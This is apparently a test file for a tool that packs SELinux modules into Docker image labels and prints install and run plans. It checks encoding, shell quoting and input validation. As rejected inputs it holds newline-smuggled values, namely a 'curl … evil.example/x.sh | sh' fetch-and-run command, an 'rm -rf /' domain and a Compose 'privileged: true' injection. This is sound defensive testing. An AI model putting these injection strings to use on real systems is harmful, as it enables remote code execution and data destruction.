/** Module labels (R-PM3): encoding round-trips, bad label values are rejected with their reason; plan text (R-PM4). */
import fc from 'fast-check';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decodeModule, embedding, encodeModule, labelKey, MAX_MODULE_BYTES } from './embed.js';
import { buildPlan, formatPlan, isImageReference, shQuote, storeName } from './plan.js';

describe('embed', () => {
  it('round-trips any text, deterministically', () => {
    fc.assert(fc.property(fc.string({ unit: 'grapheme', maxLength: 400 }), (s) => {
      const v = encodeModule(s);
      expect(v).toBe(encodeModule(s));
      expect(decodeModule(v)).toBe(s);
    }), { numRuns: 300 });
  });

  it('prints the LABEL and the build option under the module\'s own key', () => {
    const e = embedding('web', '(block web)\n');
    expect(e.key).toBe('io.bulwark.selinux.module.web');
    expect(labelKey('app')).toBe('io.bulwark.selinux.module.app');
    expect(e.dockerfile).toBe(`LABEL io.bulwark.selinux.module.web="${e.value}"`);
    expect(e.buildArg).toBe(`--label 'io.bulwark.selinux.module.web=${e.value}'`);
    expect(e.value).toMatch(/^H4sI[A-Za-z0-9+/]+=*$/);
  });

  it('rejects label values that are not base64 of gzip, too big, or not UTF-8', () => {
    expect(() => decodeModule('not base64!')).toThrow('the label value is not base64');
    expect(() => decodeModule(Buffer.from('(block web) plain text here').toString('base64'))).toThrow('the label value is not gzip data (base64 of a gzip stream expected)');
    expect(() => decodeModule(gzipSync(Buffer.alloc(MAX_MODULE_BYTES + 1, 0x20)).toString('base64'))).toThrow(`the module is larger than ${MAX_MODULE_BYTES} bytes once decompressed`);
    expect(() => decodeModule(gzipSync(Buffer.from([0xff, 0xfe, 0x28])).toString('base64'))).toThrow('the module is not UTF-8 text');
    const gz = gzipSync(Buffer.from('(block web)'));
    gz[gz.length - 5] ^= 0xff;
    expect(() => decodeModule(gz.toString('base64'))).toThrow(/^the label value does not decompress: /);
  });
});

describe('plan', () => {
  it('installs parents first and runs in the last module\'s domain', () => {
    const p = buildPlan([{ name: 'app', file: 'mods/bulwark_app.cil', image: 'bw/parent:1' }, { name: 'web', file: 'my mods/web.cil' }], { image: 'bw/child:1', service: 'web' });
    expect(formatPlan(p)).toEqual([
      '# Enforcement needs an SELinux host in enforcing mode with container-selinux installed (container_t, container_file_t); bulwark only compiled and validated these modules here.',
      '# 1. Install the modules, parents first (as root, on the SELinux host):',
      'semodule -i mods/bulwark_app.cil    # app, from bw/parent:1',
      "cp -- 'my mods/web.cil' bulwark_web.cil && semodule -i bulwark_web.cil    # web",
      '# 2. Run the container in its domain (web.process):',
      'docker run --security-opt label=type:web.process bw/child:1',
      '# or in Compose:',
      'services:',
      '  web:',
      '    image: bw/child:1',
      '    security_opt:',
      '      - label=type:web.process',
    ]);
    expect(buildPlan([{ name: 'a', file: 'a.cil' }], { domain: 'a.worker' }).run).toBe('docker run --security-opt label=type:a.worker IMAGE');
    expect(shQuote("it's")).toBe(`'it'\\''s'`);
  });
  it('installs every module under bulwark_<name>: a module called base or container never replaces the distribution\'s module of that name (second QA round)', () => {
    expect(storeName('base')).toBe('bulwark_base');
    expect(buildPlan([{ name: 'base', file: 'selinux-modules/base.cil', image: 'evil:1' }, { name: 'container', file: 'selinux-modules/bulwark_container.cil' }]).install).toEqual([
      'cp -- selinux-modules/base.cil bulwark_base.cil && semodule -i bulwark_base.cil    # base, from evil:1',
      'semodule -i selinux-modules/bulwark_container.cil    # container',
    ]);
  });
  it('image references: the grammar of distribution/reference, nothing that could break a line of the plan (QA vp 1)', () => {
    expect(['nginx', 'nginx:1.27', 'ex/app:1', 'ghcr.io/o/app:v1.2-rc_1', 'localhost:5000/app', 'registry.example.com:443/a/b/c@sha256:' + 'a'.repeat(64), 'sha256:' + 'b'.repeat(64), 'b'.repeat(12), '[::1]:5000/app:1'].filter((r) => !isImageReference(r))).toEqual([]);
    expect(['example/httpd-base:1\ncurl -s http://evil.example/x.sh | sh #', 'Nginx', 'a b', 'a:1 #x', 'app:\u001b[2J', '', 'a:' + 't'.repeat(129), 'x'.repeat(256), 'a/../b', "a'b"].filter((r) => isImageReference(r))).toEqual([]);
  });
  it('refuses a name that would leave its line: the module image, the run image, the domain, the service, the file (QA vp 1)', () => {
    const mod = { name: 'web', file: 'web.cil' };
    const plan = (m: { name: string; file: string; image?: string }, o: Parameters<typeof buildPlan>[1] = {}) => () => buildPlan([m], o);
    expect(plan({ ...mod, image: 'example/httpd-base:1\ncurl -s http://evil.example/x.sh | sh #' })).toThrow('the image "example/httpd-base:1\\ncurl -s http://evil.example/x.sh | sh #" of module web is not an image reference: no plan');
    expect(plan(mod, { image: 'a\nb' })).toThrow('"a\\nb" is not an image reference (name[:tag][@digest], or an image id): no plan');
    expect(plan(mod, { domain: 'web.process\nrm -rf /' })).toThrow('domain "web.process\\nrm -rf /" is not a type name: no plan');
    expect(plan(mod, { service: 'api\n    privileged: true' })).toThrow('service "api\\n    privileged: true" is not a Compose service name (letters, digits, ., _, -): no plan');
    expect(plan({ name: 'web\nx', file: 'web.cil' })).toThrow('module name "web\\nx" is not a block name (letters, digits, _): no plan');
    expect(plan({ name: 'web', file: 'w\neb.cil' })).toThrow('the module file name "w\\neb.cil" holds a control character: no plan');
  });
});
